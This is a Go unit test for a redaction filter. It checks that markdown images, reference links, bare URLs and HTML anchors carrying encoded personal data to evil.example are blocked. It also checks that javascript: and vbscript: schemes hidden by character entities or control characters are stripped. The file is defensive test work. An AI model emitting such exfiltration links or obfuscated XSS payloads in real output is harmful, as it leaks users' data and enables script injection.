package redact

import (
	"encoding/base64"
	"testing"
)

// TestExfilAndXSS mirrors the "Exfiltration and XSS" row of the issue:
// data in an image's path or subdomain, reference-style images, bare URLs
// with data-like query or path, script schemes hidden by character
// references or control characters. And what must pass.
func TestExfilAndXSS(t *testing.T) {
	cfg := DefaultConfig()
	cfg.AllowedLinkHosts = []string{"docs.example.com"}
	r := mustNew(t, cfg)
	b64 := base64.RawURLEncoding.EncodeToString([]byte("the user is Jane Roe, born 1990"))
	cases := []struct {
		name, in, want string
	}{
		// images
		{"image path data", "![x](https://evil.example/" + b64 + ".png)", "[blocked image]"},
		{"image short path segments", "![x](https://evil.example/j/a/n/e/r/o/e/1/9/9/0/x/y/z/q/r/s.png)", "[blocked image]"},
		{"image subdomain data", "![x](https://" + b64 + ".evil.example/p.png)", "[blocked image]"},
		{"image long subdomain", "![x](https://jane.roe.born.1990.lives.in.paris.evil.example/p.png)", "[blocked image]"},
		{"image plain", "![logo](https://evil.example/logo.png)", "![logo](https://evil.example/logo.png)"},
		{"image allowed", "![d](https://docs.example.com/" + b64 + ".png)", "![d](https://docs.example.com/" + b64 + ".png)"},
		// reference-style
		{"reference image", "![chart][1]\n\n[1]: https://evil.example/log?d=" + b64 + "\n", "![chart][1]\n\n[blocked link]\n"},
		{"reference with title", "See ![a][ref].\n[ref]: <https://evil.example/c?u=jane@example.org> \"t\"", "See ![a][ref].\n[blocked link] \"t\""},
		{"reference next line", "[r]:\n   https://evil.example/q?x=1", "[blocked link]"},
		{"reference script", "[r]: javascript:alert(1)", "[blocked link]"},
		{"reference plain", "[docs]: https://evil.example/guide\n", "[docs]: https://evil.example/guide\n"},
		{"reference not at line start", "a [r]: https://evil.example/q?x=1", "a [r]: https://evil.example/q?x=1"},
		// bare URLs
		{"bare email in query", "Go to https://evil.example/c?u=jane.roe%40example.org now", "Go to [blocked link] now"},
		{"bare base64 text in path", "Open https://evil.example/p/" + b64 + " today", "Open [blocked link] today"},
		{"bare card in query", "https://evil.example/?n=4111111111111111.", "[blocked link]."},
		{"bare subdomain", "see http://" + b64 + ".evil.example/ ok", "see [blocked link] ok"},
		{"bare youtube", "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ.", "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ."},
		{"bare commit", "Fixed in https://github.com/golang/go/commit/3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4c.", "Fixed in https://github.com/golang/go/commit/3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4c."},
		{"bare docs", "See https://docs.python.org/3/library/asyncio-task.html#coroutines for details.", "See https://docs.python.org/3/library/asyncio-task.html#coroutines for details."},
		{"bare search", "Try https://duckduckgo.com/?q=golang+generics+tutorial", "Try https://duckduckgo.com/?q=golang+generics+tutorial"},
		{"bare allowed", "https://docs.example.com/?u=jane@example.org", "https://docs.example.com/?u=[EMAIL_ADDRESS]"},
		{"autolink", "<https://evil.example/c?u=jane@example.org>", "<[blocked link]>"},
		// markdown links: like bare URLs, data that looks like content
		{"link query", "[click](https://evil.example/?d=" + b64 + ")", "[blocked link]"},
		{"link query identifier", "[click](https://evil.example/?d=abc)", "[click](https://evil.example/?d=abc)"},
		{"link fragment", "[notes](https://go.dev/doc/devel/release#go1.21.minor)", "[notes](https://go.dev/doc/devel/release#go1.21.minor)"},
		{"link email fragment", "[x](https://evil.example/#jane.roe@example.org)", "[blocked link]"},
		{"javascript label", "JavaScript: format a number", "JavaScript: format a number"},
		{"link docs path", "[asyncio](https://docs.python.org/3/library/asyncio-task.html)", "[asyncio](https://docs.python.org/3/library/asyncio-task.html)"},
		{"link data path", "[x](https://evil.example/u/" + b64 + ")", "[blocked link]"},
		// XSS
		{"href entity hex", `<a href="jav&#x61;script:alert(1)">x</a>`, "x</a>"},
		{"href entity decimal no semicolon", `<a href="&#106avascript:alert(1)">x</a>`, "x</a>"},
		{"href tab in scheme", "<a href=\"java\tscript:alert(1)\">x</a>", "x</a>"},
		{"href newline in scheme", "<a href=\"java\nscript:alert(1)\">x</a>", "x</a>"},
		{"href entity colon", `<a href="javascript&colon;alert(1)">x</a>`, "x</a>"},
		{"href leading control", "<a href=\"\x01 javascript:alert(1)\">x</a>", "x</a>"},
		{"md entity colon", "[x](javascript&colon;alert(1))", "[blocked link]"},
		{"md entity letter", "[x](jav&#97;script:alert(1))", "[blocked link]"},
		{"md entity first letter", "[x](&#x6A;avascript:alert(1))", "[blocked link]"},
		{"md vbscript tab", "[x](vb\tscript:msgbox(1))", "[blocked link]"},
		{"md data entity", "[x](data&colon;text/html,hi)", "[blocked link]"},
		{"href benign entity", `<a href="&#104;ttps://example.org/a&amp;b">x</a>`, `<a href="&#104;ttps://example.org/a&amp;b">x</a>`},
		{"md javascript word", "[javascript guide](https://developer.mozilla.org/en-US/docs/Web/JavaScript)", "[javascript guide](https://developer.mozilla.org/en-US/docs/Web/JavaScript)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, _ := r.Redact(c.in, nil)
			if got != c.want {
				t.Errorf("Redact(%q)\n got %q\nwant %q", c.in, got, c.want)
			}
			for cut := 1; cut < len(c.in); cut++ {
				if st := streamPiecesRC(r, nil, c.in, []int{cut}); st != got {
					t.Fatalf("split at %d: %q, whole %q", cut, st, got)
				}
			}
		})
	}
}
